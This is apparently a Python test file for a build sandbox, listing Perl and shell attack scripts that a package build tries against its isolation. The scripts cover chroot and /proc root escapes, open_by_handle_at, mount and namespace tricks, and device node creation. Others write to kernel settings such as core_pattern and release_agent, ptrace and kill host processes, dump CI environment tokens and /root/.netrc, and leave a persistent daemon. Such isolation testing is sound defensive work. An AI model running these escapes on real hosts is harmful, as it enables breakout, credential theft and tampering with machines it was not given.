"""What a package script tries on the machine that builds: its files, devices, kernel, processes and network."""

from __future__ import annotations

from tests.walls.attack import Attack

ATTACKS = (
    # -- the host's tree ---------------------------------------------------------------------------------
    Attack(
        name="second-chroot",
        about="leave by an open directory and a second chroot",
        script=r"""
grab('');
for my $start ('/', '/tmp', '/dev', '/proc', '/run') {
    my $pid = fork;
    if (!$pid) {
        chdir $start;
        opendir(my $out, '.');
        mkdir '/cell'; chroot '/cell';
        chdir $out;
        chdir '..' for 1 .. 64;
        chroot '.';
        grab('');
        require POSIX; POSIX::_exit(0);
    }
    waitpid $pid, 0;
}
""",
    ),
    Attack(
        name="roots-of-processes",
        about="look through /proc/PID/root, /proc/PID/cwd and /proc/PID/map_files",
        script=r"""
for my $process (glob('/proc/[0-9]* /proc/self /proc/thread-self /proc/*/task/*')) {
    grab("$process/root"); grab("$process/root/..");
    grab("$process/cwd/../../../../../../../..");
    grab("$process/root/proc/1/root");
}
""",
        bare=False,
    ),
    Attack(
        name="open-descriptors",
        about="use descriptors that the build inherited or opened itself",
        script=r"""
for my $process (glob('/proc/[0-9]* /proc/self')) {
    for my $path (glob("$process/fd/*")) {
        my $target = readlink($path) // next;
        won("a descriptor of the host: $target") if index($target, $dir) >= 0 || $target =~ m{^/.*/state/|secret|\.sock};
        grab("$path/../../../../../../../..") if -d $path;
        if ($target =~ m{secret}) { open(my $file, '<', $path); print <$file>; }
    }
}
for my $number (3 .. 200) {
    my $path = "..\0"; $path = "../../../../../../../../..$dir/secret\0";
    my $got = call('openat', $number, $path, 0, 0);
    if ($got >= 0) { open(my $file, "<&=$got"); print 'won by a descriptor: ', <$file>; }
}
""",
        bare=False,
    ),
    Attack(
        name="handles",
        about="open the host's root by its handle, as docker was once left (open_by_handle_at)",
        script=r"""
for my $place ('/', '/etc/hosts', '/etc/resolv.conf', '/proc', '/dev', '/tmp', '/var/lib/apt/lists', '/var/cache/apt/archives') {
    open(my $mount, '<', $place) or opendir($mount, $place) or next;
    for my $inode (2, 5, 64, 128, 256) {
        my $handle = pack('LlQ', 8, 1, $inode);
        my $got = call('open_by_handle_at', fileno($mount), $handle, 0);
        next if $got < 0;
        won("inode $inode of the file system of $place");
        my $path = "..$dir/secret\0";
        my $file = call('openat', $got, substr($dir, 1) . "/secret\0", 0, 0);
        if ($file >= 0) { open(my $in, "<&=$file"); print <$in>; }
    }
}
""",
    ),
    Attack(
        name="mounts",
        about="mount, unmount, remount, move the root, by old calls and new",
        script=r"""
mkdir '/point';
sub mounts { open(my $table, '<', '/proc/self/mountinfo'); return join '', <$table> }
my $before = mounts();
for my $kind ('tmpfs', 'proc', 'sysfs', 'devpts', 'mqueue', 'cgroup2', 'devtmpfs', 'debugfs', 'overlay') {
    won("a mount of $kind") if call('mount', "none\0", "/point\0", "$kind\0", 0, 0) == 0;
}
won('a bind mount') if call('mount', "/\0", "/point\0", 0, 4096 | 16384, 0) == 0;
won('a writable /proc/sys') if call('mount', "none\0", "/proc/sys\0", 0, 4096 | 32, 0) == 0;
won('a root with devices') if call('mount', "none\0", "/\0", 0, 4096 | 32, 0) == 0;
won('an unmount') if call('umount2', "/proc\0", 2) == 0 or call('umount2', "/dev\0", 2) == 0;
won('a pivot') if call('pivot_root', "/\0", "/point\0") == 0;
won('a file system context') if call('fsopen', "tmpfs\0", 0) >= 0;
won('a detached tree') if call('open_tree', -100, "/\0", 1) >= 0;
won('another table of mounts') if mounts() ne $before;
""",
    ),
    Attack(
        name="user-namespace",
        about="become root of a user namespace, and mount, make devices or join others there",
        script=r"""
for my $flags (0x10000000, 0x10020000, 0x50000000) {
    my $pid = fork;
    if (!$pid) {
        if (call('unshare', $flags) == 0) {
            won('a user namespace');
            call('unshare', 0x00020000);
            mkdir '/tmp/point';
            won('a mount in it') if call('mount', "none\0", "/tmp/point\0", "tmpfs\0", 0, 0) == 0;
        }
        require POSIX; POSIX::_exit(0);
    }
    waitpid $pid, 0;
}
for my $kind ('mnt', 'net', 'pid', 'user', 'cgroup', 'ipc', 'uts') {
    for my $process ('1', getppid) {
        open(my $file, '<', "/proc/$process/ns/$kind") or next;
        my $own = readlink("/proc/self/ns/$kind");
        next if readlink("/proc/$process/ns/$kind") eq $own;
        won("the $kind namespace of $process") if call('setns', fileno($file), 0) == 0;
    }
}
""",
        bare=False,
    ),
    # -- devices -------------------------------------------------------------------------------------------
    Attack(
        name="block-devices",
        about="make the nodes of the host's disks, read and write them",
        script=r"""
for my $place ('/', '/dev/', '/tmp/', '/run/', '/dev/shm/', '/var/tmp/') {
    for my $number ([7, @LOOP@], [7, 0], [254, 0], [253, 0], [8, 0], [259, 0]) {
        my ($major, $minor) = @$number;
        next if $minor < 0;
        my $node = "${place}block-$major-$minor";
        unlink $node;
        call('mknod', "$node\0", 0060666, ($major << 8) | $minor);
        next unless -b $node;
        if (open(my $disk, '<', $node)) {
            sysread($disk, my $data, 512);
            won("block device $major:$minor in $place");
            print substr($data, 0, 60), "\n" if $minor == @LOOP@ && $major == 7;
        }
        if ($major == 7 && $minor == @LOOP@ && open(my $disk, '+<', $node)) { syswrite($disk, 'over'); }
        unlink $node;
    }
}
""",
    ),
    Attack(
        name="character-devices",
        about="make the nodes of memory, kernel log, virtual machines, terminals and tunnels, and open them",
        script=r"""
my %nodes = (mem => [1, 1], kmem => [1, 2], port => [1, 4], kmsg => [1, 11], tty0 => [4, 0], tty1 => [4, 1],
    ttyS0 => [4, 64], console => [5, 1], fuse => [10, 229], kvm => [10, 232], tun => [10, 200],
    'loop-control' => [10, 237], 'device-mapper' => [10, 236], 'btrfs-control' => [10, 234], autofs => [10, 235],
    vhost => [10, 238], uinput => [10, 223], rtc => [254, 0], cpu => [203, 0], snapshot => [10, 231]);
for my $place ('/', '/dev/', '/tmp/', '/run/', '/dev/shm/') {
    for my $name (sort keys %nodes) {
        my ($major, $minor) = @{$nodes{$name}};
        my $node = "${place}node-$name";
        call('mknod', "$node\0", 0020666, ($major << 8) | $minor);
        # The kernel's answer to a number that no driver has is not a wall's.
        won("the device $name in $place") if -c $node && (open(my $file, '<', $node) || $!{ENXIO} || $!{ENODEV});
        unlink $node;
    }
}
""",
    ),
    Attack(
        name="dev",
        about="whether /dev holds more than the usual nodes",
        script=r"""
my %usual = map { $_ => 1 } qw(null zero full random urandom tty console ptmx pts shm fd stdin stdout stderr core mqueue);
opendir(my $dev, '/dev');
for my $name (readdir $dev) {
    next if $name =~ /^\./ || $usual{$name} || $name =~ /^(block|node)-/;
    won("/dev/$name");
}
opendir(my $pts, '/dev/pts');
for my $name (readdir $pts) { won("a terminal, /dev/pts/$name") if $name =~ /^\d+$/; }
for my $path ('/dev/tty', '/dev/console') { won("$path is open") if open(my $file, '+<', $path); }
""",
        bare=False,
    ),
    # -- the kernel ----------------------------------------------------------------------------------------
    Attack(
        name="kernel-settings",
        about="open for writing what sets the kernel: core_pattern, sysrq, modprobe, binfmt_misc, release_agent, /sys",
        script=r"""
for my $path (qw(/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/hostname
        /proc/sys/kernel/randomize_va_space /proc/sys/vm/drop_caches /proc/sys/vm/panic_on_oom
        /proc/sys/kernel/sysrq /proc/sysrq-trigger /proc/sys/fs/binfmt_misc/register /proc/irq/default_smp_affinity
        /proc/sys/kernel/ns_last_pid /proc/sys/fs/protected_symlinks /proc/mtrr /proc/timer_stats
        /sys/kernel/uevent_helper /sys/power/state /sys/kernel/mm/transparent_hugepage/enabled
        /sys/module/printk/parameters/time /sys/block/loop0/uevent), glob('/sys/fs/cgroup/*/release_agent'),
        glob('/sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/*/devices.allow')) {
    won("$path can be written") if sysopen(my $file, $path, 1);
}
""",
    ),
    Attack(
        name="kernel-memory",
        about="read the kernel's memory and log, and other processes'",
        script=r"""
for my $path (qw(/proc/kcore /proc/kmsg /dev/mem /dev/kmsg /sys/kernel/security /sys/firmware/efi
        /proc/keys /proc/key-users /proc/timer_list /proc/sched_debug)) {
    next unless open(my $file, '<', $path);
    next unless sysread($file, my $data, 64);
    next if $path =~ /keys|key-users/ && index($data, '@KEY@') < 0;
    won("$path can be read");
}
my $buffer = "\0" x 4096;
won('the kernel log') if call('syslog', 3, \$buffer, 4096) > 0;
""",
    ),
    Attack(
        name="calls",
        about="calls that container engines refuse: bpf, userfaultfd, modules, kexec, keys, clocks, swap, ports",
        script=r"""
my $zero = "\0" x 256;
my %tries = (
    bpf => [0, $zero, 0], userfaultfd => [0], init_module => [$zero, 0, "\0"],
    delete_module => ["buildstep-none\0", 0], kexec_load => [0, 0, 0, 0], kexec_file_load => [-1, -1, 0, "\0", 0],
    perf_event_open => [$zero, 0, -1, -1, 0], swapon => ["/none\0", 0], swapoff => ["/none\0"],
    reboot => [0, 0, 0, 0], acct => ["/none\0"], iopl => [3], ioperm => [0x80, 1, 1],
    finit_module => [-1, "\0", 0], fanotify_init => [0, 0], keyctl => [0, -4, 0], add_key => ["user\0", "bs\0", "x", 1, -2],
    request_key => ["user\0", "buildstep-none\0", 0, 0], open_by_handle_at => [-100, $zero, 0],
    setns => [-1, 0], fsopen => ["tmpfs\0", 0], open_tree => [-100, "/\0", 1],
);
for my $name (sort keys %tries) {
    my $got = call($name, @{$tries{$name}});
    next if $got == -1 && ($!{EPERM} || $!{ENOSYS} || $!{EACCES});
    won("$name is answered by the kernel: " . ($got == -1 ? $! : $got));
}
""",
    ),
    Attack(
        name="clock",
        about="set the host's clock, and its accounting of processes",
        script=r"""
my $times = "\0" x 512;
call('adjtimex', \$times);
substr($times, 0, 4) = pack('L', 0x10);  # the status, as it is
won('the clock') if call('adjtimex', \$times) >= 0;
won('acct') if call('acct', 0) == 0;
""",
    ),
    Attack(
        name="keys",
        about="find the keys of the user who builds",
        script=r"""
for my $ring (-4, -5, -3, -1, -2) {
    my $key = call('keyctl', 10, $ring, "user\0", "@KEY@\0", 0);
    next if $key <= 0;
    won("key $key");
    my $data = "\0" x 200;
    call('keyctl', 11, $key, \$data, 200);
    print "$data\n";
}
my $key = call('request_key', "user\0", "@KEY@\0", 0, 0);
won('a key by its name') if $key > 0;
""",
    ),
    # -- processes --------------------------------------------------------------------------------------------
    Attack(
        name="host-processes",
        about="see, trace, stop and kill processes of the host",
        script=r"""
for my $file (glob('/proc/[0-9]*/cmdline'), glob('/proc/[0-9]*/environ')) {
    open(my $in, '<', $file) or next; local $/; my $text = <$in> // '';
    won("$file: $text") if $text =~ /secret-/;
}
sub canary { open(my $in, '<', '/proc/@PID@/cmdline') or return 0; return <$in> =~ /secret-/ }
if (canary()) {
    won('a process of the host');
    if (call('ptrace', 16, @PID@, 0, 0) == 0) { won('a trace'); waitpid(@PID@, 0); call('ptrace', 17, @PID@, 0, 0); }
}
won('a signal') if kill(0, @PID@) && canary();
kill 'STOP', @PID@;
kill 'KILL', @PID@;
""",
    ),
    Attack(
        name="shared-memory",
        about="attach memory that the host's processes share",
        script=r"""
my $ident = shmget(@SHM@, 4096, 0);
if (defined $ident) { my $data; shmread($ident, $data, 0, 100); print "won shared memory: $data\n"; }
""",
    ),
    Attack(
        name="environment",
        about="read what the CI job knows: tokens in environments and command lines",
        script=r"""
while (my ($key, $value) = each %ENV) { print "$key=$value\n"; }
for my $file (glob('/proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/task/*/environ')) {
    open(my $in, '<', $file) or next; local $/; print "$file: ", <$in> // '', "\n";
}
for my $path (qw(/etc/resolv.conf /etc/apt/apt.conf /etc/apt/auth.conf /root/.netrc)) {
    open(my $in, '<', $path) or next; local $/; print <$in>;
}
""",
        bare=False,
    ),
    Attack(
        name="daemon",
        about="leave a daemon that goes on when the build reads the image",
        shell=True,
        bare=False,
        script=r"""
setsid sh -c 'exec </dev/null >/dev/null 2>&1
  trap "" TERM HUP INT
  (while :; do date +%s.%N >/var/lib/attack-daemon 2>/dev/null; sleep 0.1; : left-@NAME@-@PID@; done) &' &
perl -e 'fork and exit; use POSIX; POSIX::setsid(); fork and exit; $0 = "left-@NAME@-@PID@"; $SIG{TERM} = $SIG{HUP} = "IGNORE"; sleep 1 while 1'
""",
    ),
    # -- the network ----------------------------------------------------------------------------------------------
    Attack(
        name="loopback",
        about="reach services of the host: on its loopback, on its own address, on its abstract sockets",
        script=r"""
reach(AF_INET, pack_sockaddr_in(@PORT@, inet_aton('127.0.0.1')));
reach(AF_INET, pack_sockaddr_in(@PORT@, inet_aton('@ADDRESS@')));
reach(AF_INET, pack_sockaddr_in(@PORT@, inet_aton('0.0.0.0')));
reach(AF_UNIX, pack('S', AF_UNIX) . "\0@ABSTRACT@");
""",
    ),
    Attack(
        name="listening",
        about="listen where the host's other users can connect",
        script=r"""
socket(my $server, AF_INET, SOCK_STREAM, 0);
setsockopt($server, SOL_SOCKET, SO_REUSEADDR, 1);
if (bind($server, pack_sockaddr_in(@LISTEN@, INADDR_ANY)) && listen($server, 5)) {
    local $SIG{ALRM} = sub { die };
    eval { alarm 2; if (accept(my $client, $server)) { syswrite($client, "$name: answered\n"); won('a visitor'); } };
    alarm 0;
}
""",
    ),
    Attack(
        name="interfaces",
        about="see or open the host's network: interfaces, raw and virtual-machine sockets",
        script=r"""
open(my $table, '<', '/proc/net/dev');
while (<$table>) { won("the interface $1") if /^\s*(\S+):/ && $1 !~ /^(lo|sit0|tunl0|ip6tnl0|gre0|gretap0|erspan0|ip_vti0|ip6_vti0|ip6gre0)$/; }
won('a virtual-machine socket') if socket(my $vsock, 40, SOCK_STREAM, 0);
""",
    ),
)
